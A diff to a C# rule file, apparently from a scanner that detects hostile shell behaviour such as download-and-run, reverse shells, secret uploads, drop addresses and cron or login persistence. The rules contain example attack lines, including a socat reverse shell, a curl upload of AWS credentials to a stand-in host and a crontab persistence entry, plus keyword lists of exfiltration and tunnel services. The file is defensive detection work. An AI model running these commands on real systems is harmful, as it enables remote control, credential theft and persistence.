@@ -16,15 +16,24 @@ internal static class BehaviorRules
             [
                 new(@"\b(?:curl|wget)\b[^\n|;]*?(?:\s-[a-zA-Z]*[oO]\s*|\s--output(?:-document)?[\s=]+|>\s*)[""']?(?<file>[^\s""';|&]+)[^\n]*")
                 {
-                    Also = [@"(?:^|\n|[;&|]\s*|\bthen\s+|\bdo\s+|`)\s*(?:sudo\s+|nohup\s+|exec\s+|setsid\s+|open\s+|source\s+|\.\s+|" + Fragments.Shell + @"\s+|" + Fragments.Interpreter + @"\s+|chmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rw]*x|[0-7]*7[0-7]{2})\s+)+(?:-\w+\s+)*[""']?[^\s;|&]+|(?:^|\n|[;&|]\s*)\s*[""']?(?:\./|/tmp/|/var/tmp/|/dev/shm/|~/|\$)[^\s;|&]+"],
+                    Also = [@"(?:^|\n|[;&|]\s*|\bthen\s+|\bdo\s+|`)\s*(?:sudo\s+|nohup\s+|exec\s+|setsid\s+|open\s+|source\s+|\.\s+|" + Fragments.Shell + @"\s+|" + Fragments.Interpreter + @"\s+)+(?:-\w+\s+)*[""']?[^\s;|&]+|(?:^|\n|[;&|]\s*)\s*[""']?(?:\./|/tmp/|/var/tmp/|/dev/shm/|~/|\$)[^\s;|&]+"],
                     Within = 6,
                     Tie = "file",
                 },
                 new(@"\b(?:curl|wget)\s+[^\n|;]*?https?://[^\s""'|;&]*/(?<file>[\w.-]+\.(?:sh|bash|py|pl|rb|js|bin|run|elf|command|pkg|dmg))\b[^\n]*")
                 {
-                    Also = [@"(?:^|\n|[;&|]\s*)\s*(?:sudo\s+|nohup\s+)*(?:" + Fragments.Shell + @"\s+|" + Fragments.Interpreter + @"\s+|chmod\s+\S+\s+|open\s+|source\s+|\.\s+|\./)+(?:-\w+\s+)*[""']?[^\s;|&]*"],
+                    Also = [@"(?:^|\n|[;&|]\s*)\s*(?:sudo\s+|nohup\s+)*(?:" + Fragments.Shell + @"\s+|" + Fragments.Interpreter + @"\s+|open\s+|source\s+|\.\s+|\./)+(?:-\w+\s+)*[""']?[^\s;|&]*"],
                     Within = 6,
                     Tie = "file",
+                },
+                new(@"\b(?:curl|wget)\s+[^\n|;]*?(?:http://|https?://(?:\d{1,3}(?:\.\d{1,3}){3}|(?:\S*\.)?(?:glot\.io|pastebin\.com|transfer\.sh|ngrok\S*|trycloudflare\.com)))[^\n]*") { Also = [@"\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rw]*x|[0-7]*7[0-7]{2})\s"], Within = 4, Severity = Severity.High },
+                new(@"\b(?:curl|wget)\s+[^\n|;]*?(?:-[a-zA-Z]*[oO]|--output|--output-document|>)[\s=]*[""']?(?<file>[^\s""';|&]+)[^\n]*")
+                {
+                    Also = [@"\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rw]*x|[0-7]*7[0-7]{2})\s+[""']?[^\s;|&]+"],
+                    Within = 6,
+                    Tie = "file",
+                    Severity = Severity.Medium,
+                    Weakened = "made executable, and not run here",
                 },
                 new(@"(?:Invoke-WebRequest|\biwr\b|DownloadFile|Start-BitsTransfer|bitsadmin|certutil\s+[^\n]*-urlcache)[^\n]*?(?<file>[\w-]+\.(?:exe|ps1|bat|cmd|msi|dll|vbs|scr))\b[^\n]*")
                 {
@@ -33,7 +42,11 @@ internal static class BehaviorRules
                     Tie = "file",
                 },
                 new(@"\b(?:urlretrieve|wget\.download)\s*\([^\n,]*,\s*(?<file>[\w.""'/]+)[^\n]*") { Also = [@"(?:os\.(?:system|popen|exec\w+|startfile|chmod)|subprocess\.\w+|exec|runpy\.run_path)\s*\([^\n]*"], Within = 12, Tie = "file" },
-            ], [KnownInstallers.Use]),
+            ],
+            [
+                KnownInstallers.Use,
+                new(@"https://(?:repo\.anaconda\.com|dl\.k8s\.io|awscli\.amazonaws\.com|dl\.google\.com|download\.docker\.com|packages\.microsoft\.com|github\.com/conda-forge/miniforge|developer\.download\.nvidia\.com|releases\.hashicorp\.com|storage\.googleapis\.com/(?:kubernetes-release|minikube))/", Severity.Warning, "an installer of a known maker") { Unless = @"https?://[^\n]*https?://|--insecure|\s-[a-zA-Z]*k[a-zA-Z]*\s" },
+            ]),
 
         Rule("reverse-shell-other", Severity.Critical, "A program in another language, or a tool, ties a shell to the network.",
             "Whoever listens at the other end types commands on this machine.", "Remove it.", "socat TCP:203.0.113.9:4444 EXEC:/bin/sh", Severity.High,
@@ -52,7 +65,7 @@ internal static class BehaviorRules
 
         Rule("data-upload", Severity.High, "Sends secrets, or files that hold them, to an address.",
             "What was sent is known to others from then on.", "Send the one value that the service needs, over HTTPS, and say so.", "curl -F file=@~/.aws/credentials https://drop.example.net", Severity.Medium,
-            ["curl", "wget", "kubectl", "requests.", "fetch", "axios", "http", "scp", "rsync", "invoke-", "urlopen", "-post", "webhook", "telegram", "discord", "sendbeacon", "smtplib", "mail "],
+            ["curl", "wget", "kubectl", "requests.", "fetch", "axios", "http", "scp", "rsync", "invoke-", "urlopen", "-post", "process.env", "os.environ", "webhook", "telegram", "discord", "sendbeacon", "smtplib", "mail "],
             [
                 new(@"\bcurl\b[^\n;]*?(?:-F|-T|-d|--data(?:-\w+)?|--form|--upload-file|--json)\s*=?\s*[""']?[^\n;]*?(?:@|\$\(|`|<)[^\n;]*?" + Secret + @"[^\n;]*"),
                 new(@"(?:\bcat\s+[^\n;|]*" + Secret + @"|\b(?:printenv|env|export\s+-p|set)\s*)[^\n;|]*(?:\|[^\n;|]*)*\|\s*(?:curl|wget|http|xh)\b[^\n;]*"),
@@ -62,17 +75,19 @@ internal static class BehaviorRules
                 new(@"(?:requests\.(?:post|put|get)|httpx\.(?:post|put)|axios\.(?:post|put)|\bfetch|urlopen|sendBeacon|https?\.request)\s*\([^\n]*(?:dict\s*\(\s*os\.environ|os\.environ(?:\.copy\(\))?\s*[,)}\]]|JSON\.stringify\s*\(\s*process\.env\s*\)|process\.env\s*[,)}]|env\s*:\s*process\.env\s*[,}]|\.ssh|id_rsa|\.aws)[^\n]*"),
                 new(@"\b(?:scp|rsync)\s+[^\n;|]*(?:\.ssh\b|\.aws\b|id_rsa|\.env\b|\.kube\b|\.gnupg|wallet)[^\n;|]*\s\S+@?\S+:\S*"),
                 new(@"=\s*(?:dict\s*\(\s*os\.environ\s*\)|os\.environ\.copy\(\)|JSON\.stringify\s*\(\s*process\.env\s*\)|\{\s*\.\.\.process\.env\s*\})") { Also = [@"(?:requests\.(?:post|put)|httpx\.(?:post|put)|axios\.(?:post|put)|\bfetch\s*\(|urlopen|https?\.request)[^\n]*"], Within = 15 },
+                new(@"\b(?:e|d|x|data|vars|payload|body|info|environment|secrets|dump|all)\s*[:=]\s*process\.env\s*[,;}\]]") { Also = [@"https?\.request|\bfetch\s*\(|axios|\.post\s*\(", @"JSON\.stringify"], Within = 10 },
             ], [new(@"https?://(?:localhost|127\.0\.0\.1)", Severity.Low, "talks to this machine")]),
 
         Rule("drop-address", Severity.High, "Sends something to an address that anybody can open without a name.",
             "A webhook, a paste or a tunnel takes data and tells nobody who reads it.", "Send to a service under a name that its owner answers for.",
             "curl -d @notes https://webhook.site/0a1b", Severity.Low,
-            ["webhook", "telegram.org/bot", "slack.com/services", "requestbin", "pipedream", "interact.sh", "oast.", "burpcollaborator", "ngrok", "trycloudflare", "pastebin", "transfer.sh", "file.io", "0x0.st", "termbin", "ix.io", "anonfiles", "gofile", "dpaste", "beeceptor", "hookbin"],
+            ["webhook", "telegram.org/bot", "slack.com/services", "requestbin", "pipedream", "interact.sh", "oast.", "burpcollaborator", "ngrok", "trycloudflare", "pastebin", "transfer.sh", "file.io", "0x0.st", "termbin", "ix.io", "anonfiles", "gofile", "dpaste", "beeceptor", "hookbin", "oastify"],
             [
                 new(@"(?:\bcurl\b|\bwget\b|requests\.(?:post|put)|httpx\.post|axios\.(?:post|put)|\bfetch\s*\(|urlopen|Invoke-(?:WebRequest|RestMethod)|\biwr\b|sendBeacon|\|\s*nc\b)[^\n]*" + Drop + @"[^\n]*") { Except = @"discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|api\.telegram\.org" },
                 new(@"(?:\bcurl\b|requests\.(?:post|put)|axios\.(?:post|put)|\bfetch\s*\(|urlopen|Invoke-(?:WebRequest|RestMethod))[^\n]*(?:discord(?:app)?\.com/api/webhooks/\d|hooks\.slack\.com/services/T|api\.telegram\.org/bot\d)[^\n]*"),
                 new(@"=\s*[frb]?[""'`]https?://(?:[\w-]+\.)*(?:discord(?:app)?\.com/api/webhooks/\d\S*|api\.telegram\.org/bot\d+:\S*|webhook\.site/\S+|\S*\.oast\.\w+\S*|\S*\.interact\.sh\S*|\S*\.burpcollaborator\.net\S*|\S*\.requestbin\.\S+|\S*\.m\.pipedream\.net\S*)"),
                 new(@"\bhttps?://(?:webhook\.site/[\w-]{8,}|[\w-]+\.oast\.\w+|[\w-]+\.interact\.sh|[\w-]+\.burpcollaborator\.net|[\w-]+\.m\.pipedream\.net|[\w-]+\.requestbin\.(?:com|net))\S*"),
+                new(@"[""'`/.@][\w-]{6,}\.(?:oastify\.com|oast\.(?:fun|live|site|online|pro|me)|burpcollaborator\.net|interact\.sh)\b"),
             ]),
 
         Rule("persistence", Severity.High, "Arranges to be started again: at login, by the clock, or for whoever logs in.",
@@ -80,7 +95,7 @@ internal static class BehaviorRules
             "(crontab -l; echo '* * * * * /tmp/a') | crontab -", Severity.Low,
             ["crontab", "cron.", "launchagents", "launchdaemons", "launchctl", "systemctl", ".bashrc", ".zshrc", ".profile", ".bash_profile", ".zprofile", "authorized_keys", "rc.local", "currentversion\\run", "schtasks", "startup", "autostart", ".git/hooks", "core.hookspath", "/etc/profile", "systemd/", "login items", ".zshenv", "pam.d"],
             [
-                new(@"\|\s*crontab\s+-|\bcrontab\s+[^\s;|&-][^\n;|]*|/etc/cron\.\w+/\S+|>>?\s*[""']?/(?:etc/crontab|var/spool/cron)\S*") { Except = @"crontab\s+(?:-l|-e|file|entry|entries|is|and|or|to|for|in|syntax|expression|format|job|jobs|line)\b" },
+                new(@"\|\s*crontab\s+-|\bcrontab\s+[^\s;|&-][^\n;|]*|(?:>>?|\btee\b|\bcp\b|\bmv\b|\binstall\b|\bln\b|\bopen\s*\(|\bwrite\w*\s*\()[^\n;]*/etc/cron\.\w+/\S+|>>?\s*[""']?/(?:etc/crontab|var/spool/cron)\S*") { Except = @"crontab\s+(?:-l|-e|file|entry|entries|is|and|or|to|for|in|syntax|expression|format|job|jobs|line)\b" },
                 new(@"(?:>>?|\btee\b|\bcp\b|\bmv\b|\bln\b|\bcat\b[^\n]*>|write\w*\s*\(|open\s*\()[^\n;]*(?:Library/Launch(?:Agents|Daemons)|\.config/autostart|systemd/(?:user|system)/[\w.-]+\.(?:service|timer)|/etc/rc\.local|/etc/profile(?:\.d)?|\.config/systemd|/etc/pam\.d|Start Menu\\Programs\\Startup)[^\n;]*"),
                 new(@"\blaunchctl\s+(?:load|bootstrap|submit)\b[^\n;]*"),
                 new(@"(?:>>|\btee\s+-a)\s*[""']?\S*(?:\.bashrc|\.zshrc|\.profile|\.bash_profile|\.zprofile|\.zshenv)\b[^\n]*"),
@@ -89,7 +104,7 @@ internal static class BehaviorRules
                 new(@"(?:>>?|\bcp\b|\bmv\b|\btee\b|\bln\b)[^\n;]*\.git/hooks/[\w-]+[^\n;]*|core\.hooksPath\s+[""']?(?:/tmp|/var|\$HOME|~)[^\n]*"),
             ],
             [
-                new(@"(?:export\s+PATH|eval\s+""?\$\(\S+\s+(?:init|env|hook|activate|completions?)|nvm\.sh|NVM_DIR|alias\s|source\s+\S*completion|starship|direnv|zoxide|pyenv|rbenv|cargo/env|conda|HOMEBREW|export\s+[A-Z][A-Z0-9_]*=[^\n]*>>)", Severity.Low, "sets the search path or an alias") { Unless = @"\bcurl\b|\bwget\b|\bnc\b|/dev/tcp|base64|LD_PRELOAD|/tmp/|PROMPT_COMMAND|alias\s+(?:sudo|ssh|ls|cd|git)=" },
+                new(@"(?:export\s+PATH|eval\s+""?\$\(\S+\s+(?:init|env|hook|activate|completions?)|nvm\.sh|NVM_DIR|alias\s|completions?\b|starship|direnv|zoxide|pyenv|rbenv|cargo/env|conda|HOMEBREW|export\s+[A-Z][A-Z0-9_]*=[^\n]*>>)", Severity.Low, "sets the search path or an alias") { Unless = @"\bcurl\b|\bwget\b|\bnc\b|/dev/tcp|base64|LD_PRELOAD|/tmp/|PROMPT_COMMAND|alias\s+(?:sudo|ssh|ls|cd|git)=" },
                 new(@"\blaunchctl\s+(?:load|bootstrap)\b[^\n;]*(?:homebrew|com\.\w+\.\w+)|systemd/(?:user|system)/", Severity.Medium, "installs a service") { Unless = @"\bcurl\b|/tmp/|/dev/|base64" },
             ]),
 
